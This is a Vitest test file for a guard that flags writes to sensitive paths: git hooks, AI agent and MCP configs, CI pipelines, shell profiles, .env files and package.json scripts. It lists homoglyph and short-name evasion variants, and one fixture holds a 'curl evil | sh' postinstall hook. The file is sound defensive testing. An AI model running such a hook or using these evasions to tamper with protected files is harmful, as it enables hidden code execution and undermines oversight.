import { expect, test } from 'vitest'
import { protectedChange, protectedPath } from './protected-path.ts'

test.each([
  '.git/hooks/pre-commit',
  '.git',
  'vendor/lib/.git/config',
  '.GIT/config',
  '.Git/Hooks/x',
  '.g\u0131t/config',
  '\uff0egit/config',
  'GIT~1/config',
  '.gitmodules',
  '.gitattributes',
  'sub/hooks/pre-push',
  '.husky/pre-commit',
  '.pre-commit-config.yaml',
  'lefthook.yml',
  '.quarterdeck/policy.json',
  '.monocoque/settings.json',
  '.claude/settings.json',
  'packages/a/.claude/settings.json',
  '.codex/config.toml',
  '.gemini/settings.json',
  '.copilot/mcp-config.json',
  '.cursor/mcp.json',
  '.mcp.json',
  '.MCP.json',
  'mcp.json',
  'CLAUDE.md',
  'docs/AGENTS.md',
  '.vscode/tasks.json',
  'my.code-workspace',
  '.devcontainer/devcontainer.json',
  '.github/workflows/ci.yml',
  '.github/CODEOWNERS',
  '.gitlab-ci.yml',
  '.circleci/config.yml',
  'Jenkinsfile',
  'azure-pipelines.yml',
  '.bashrc',
  '.bash_profile',
  '.zshenv',
  '.profile',
  '.envrc',
  '.env',
  '.env.local',
  '.npmrc',
  '.yarnrc.yml',
  '.cargo/config.toml',
  'quarterdeck.yaml',
  'agent.yml',
])('%s is protected', (path) => {
  expect(protectedPath(path)).toMatch(/^[A-Z].*\.$/)
})

test.each([
  'src/git/index.ts',
  'Makefile',
  'README.md',
  '.gitignore',
  '.gitkeep',
  'src/env.ts',
  'docs/github.md',
  'package-lock.json',
  'hooks/use-state.ts',
  'src/agent.ts',
  'tsconfig.json',
  'claude/notes.txt',
])('%s is not protected', (path) => {
  expect(protectedPath(path)).toBe(null)
})

test('package.json is protected where a change touches what others run', () => {
  const text = (value: unknown) => JSON.stringify(value)
  const same = { name: 'a', scripts: { test: 'vitest' } }
  expect(protectedChange('package.json', text(same), text({ ...same, version: '2.0.0' }))).toBe(null)
  expect(protectedChange('package.json', null, text({ name: 'a' }))).toBe(null)
  for (const [before, after] of [
    [text(same), text({ ...same, scripts: { test: 'vitest', postinstall: 'curl evil | sh' } })],
    [text(same), text({ name: 'a' })],
    [text(same), null],
    [null, text(same)],
    [text(same), '{ broken'],
    [text(same), text({ ...same, packageManager: 'pnpm@9' })],
  ] as const) {
    expect(protectedChange('web/Package.json', before, after)).toContain('scripts')
  }
})
